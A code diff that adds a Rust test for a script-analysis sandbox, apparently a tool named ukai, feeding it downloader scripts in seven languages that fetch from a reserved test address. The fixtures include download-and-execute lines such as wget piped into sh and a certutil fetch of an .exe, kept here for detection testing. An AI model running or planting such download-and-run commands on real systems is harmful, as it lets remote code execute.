@@ -91,6 +91,47 @@ fn analyze_shows_headers_and_artefacts_and_exports_configurations() {
 }
 
 #[test]
+fn scripts_of_every_language_run_inside_of_the_jail() {
+    let url = "http://192.0.2.7/first";
+    let scripts = [
+        ("a.sh", format!("#!/bin/sh\nwget {url} -O /tmp/a; sh /tmp/a\n")),
+        ("a.py", format!("import urllib.request\nurllib.request.urlopen('{url}')\n")),
+        ("a.pl", format!("#!/usr/bin/perl\nuse LWP::Simple;\ngetstore('{url}', '/tmp/a');\n")),
+        ("a.ps1", format!("$c = New-Object Net.WebClient\n$c.DownloadFile('{url}', 'C:\\a')\n")),
+        ("a.bat", format!("@echo off\r\ncertutil -urlcache -f {url} %TEMP%\\a.exe\r\n")),
+        (
+            "a.vbs",
+            format!(
+                "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"{url}\", False\r\nh.Send\r\n"
+            ),
+        ),
+        (
+            "a.js",
+            format!(
+                "var h = new ActiveXObject('MSXML2.XMLHTTP');\nh.open('GET', '{url}', false);\nh.send();\n"
+            ),
+        ),
+    ];
+    let folder = tempfile::TempDir::new().expect("a temporary folder");
+    for (name, script) in scripts {
+        let path = folder.path().join(name);
+        std::fs::write(&path, script).expect("a file");
+        let path = path.to_str().expect("a UTF-8 path");
+        // Alone in a process of its own, and twice in forks of one.
+        for files in [&[path][..], &[path, path]] {
+            let told = text(&ukai(&[&["analyze", "--json"], files].concat()));
+            for line in told.lines() {
+                let analysis: Value = serde_json::from_str(line).expect("JSON");
+                assert_eq!(analysis["outcome"]["state"], "complete", "{name}: {line}");
+                let acts = analysis["acts"].as_array();
+                let acts = acts.unwrap_or_else(|| panic!("{name} does nothing: {line}"));
+                assert!(acts.iter().any(|it| it["url"] == url), "{name}: {line}");
+            }
+        }
+    }
+}
+
+#[test]
 fn a_plan_is_a_table_json_and_a_configuration() {
     let folder = tempfile::TempDir::new().expect("a temporary folder");
     let list = folder.path().join("prefixes");
